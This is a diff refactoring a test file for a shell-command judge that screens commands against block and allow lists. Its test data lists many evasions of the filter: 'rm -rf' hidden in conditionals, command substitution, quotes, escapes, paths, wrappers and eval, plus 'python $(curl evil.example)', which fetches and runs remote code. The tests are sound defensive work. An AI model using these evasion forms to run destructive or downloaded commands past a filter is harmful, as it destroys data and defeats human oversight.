@@ -34,8 +34,9 @@ describe('judgeCommand', () => {
     allowed('ls # rm -rf x');
   });
 
-  it('judges the bodies of if, then, else, loops, case, functions, subshells and groups', () => {
-    for (const line of [
+  /** Lines the block list refuses, grouped by where the blocked command stands in them. */
+  const hiddenBlockedCommands: Record<string, string[]> = {
+    'in the bodies of if, then, else, loops, case, functions, subshells and groups': [
       'if true; then rm -rf x; fi',
       'if false; then :; else rm -rf x; fi',
       'if rm -rf x; then :; fi',
@@ -48,12 +49,8 @@ describe('judgeCommand', () => {
       '{ rm -rf x; }',
       '! rm -rf x',
       'true && rm -rf x &',
-    ])
-      refused(line);
-  });
-
-  it('judges command substitution in every place it can run, under either list', () => {
-    for (const line of [
+    ],
+    'in command substitution, in every place it can run': [
       'echo $(rm -rf x)',
       'echo `rm -rf x`',
       'echo "$(rm -rf x)"',
@@ -62,15 +59,8 @@ describe('judgeCommand', () => {
       'ls > "$(rm -rf x)"',
       'cat <<EOF\n$(rm -rf x)\nEOF',
       'echo ${X:-$(rm -rf x)}',
-    ])
-      refused(line);
-    refused('python $(curl evil.example)', allowList);
-    allowed('python $(python -c "print(1)")', allowList);
-    allowed('echo \'$(rm -rf x)\' "\\$(rm -rf x)"');
-  });
-
-  it('reads the command word as the shell does: quotes and escapes removed, a path reduced to the name', () => {
-    for (const line of [
+    ],
+    'behind quotes, escapes or a path in the command word, which the shell removes': [
       '\\rm -rf x',
       "r''m -rf x",
       '"rm" -rf x',
@@ -78,30 +68,8 @@ describe('judgeCommand', () => {
       'r"m" -rf x',
       '/bin/rm -rf x',
       './rm -rf x',
-    ])
-      refused(line);
-    refused('git "push"');
-    // A path is not the name on an allow list: ./python is a program the model could have written.
-    refused('./python x.py', allowList);
-  });
-
-  it('refuses a program whose name is computed when it runs', () => {
-    for (const line of [
-      '$CMD -rf x',
-      '$(echo rm) -rf x',
-      '/bin/r? -rf x',
-      '/bin/r[m] -rf x',
-      '~/rm x',
-      "$'\\x72m' -rf x",
-    ])
-      expect(judgeCommand(line, blockList)).toMatchObject({
-        allowed: false,
-        reason: expect.stringContaining('computed when it runs'),
-      });
-  });
-
-  it('judges the command a wrapper runs, and the wrapper itself', () => {
-    for (const line of [
+    ],
+    'behind a wrapper that runs it': [
       'env rm -rf x',
       'env -i A=1 -u B rm -rf x',
       'command rm -rf x',
@@ -124,18 +92,52 @@ describe('judgeCommand', () => {
       "bash -ec 'ls && rm -rf x'",
       'eval rm -rf x',
       'eval "rm -rf x"',
+    ],
+    'behind a wrapper whose command cannot be told apart': [
+      'env -S "rm -rf x"',
+      'timeout --weird 5 rm -rf x',
+      'sh -c "$SCRIPT"',
+      'eval $X',
+    ],
+  };
+
+  it.each(Object.entries(hiddenBlockedCommands))('finds the blocked command %s', (_where, lines) => {
+    for (const line of lines) refused(line);
+  });
+
+  it('judges command substitution under the allow list too, but not where quotes or an escape make it text', () => {
+    refused('python $(curl evil.example)', allowList);
+    allowed('python $(python -c "print(1)")', allowList);
+    allowed('echo \'$(rm -rf x)\' "\\$(rm -rf x)"');
+  });
+
+  it('reads quotes out of the arguments too, and a path as no name on the allow list', () => {
+    refused('git "push"');
+    // A path is not the name on an allow list: ./python is a program the model could have written.
+    refused('./python x.py', allowList);
+  });
+
+  it('refuses a program whose name is computed when it runs', () => {
+    for (const line of [
+      '$CMD -rf x',
+      '$(echo rm) -rf x',
+      '/bin/r? -rf x',
+      '/bin/r[m] -rf x',
+      '~/rm x',
+      "$'\\x72m' -rf x",
     ])
-      refused(line);
+      expect(judgeCommand(line, blockList)).toMatchObject({
+        allowed: false,
+        reason: expect.stringContaining('computed when it runs'),
+      });
+  });
+
+  it('judges the wrapper itself, and the command it runs under the allow list', () => {
     allowed('command -v rm');
     allowed('timeout 5 python x.py', allowList);
     allowed('env PYTHONPATH=. python -m pytest', allowList);
     refused('timeout 5 curl x', allowList);
     refused('xargs', allowList);
-  });
-
-  it('refuses a wrapper whose command cannot be told apart', () => {
-    for (const line of ['env -S "rm -rf x"', 'timeout --weird 5 rm -rf x', 'sh -c "$SCRIPT"', 'eval $X'])
-      expect(judgeCommand(line, blockList).allowed, line).toBe(false);
   });
 
   it('refuses a line that does not parse, or runs nothing', () => {
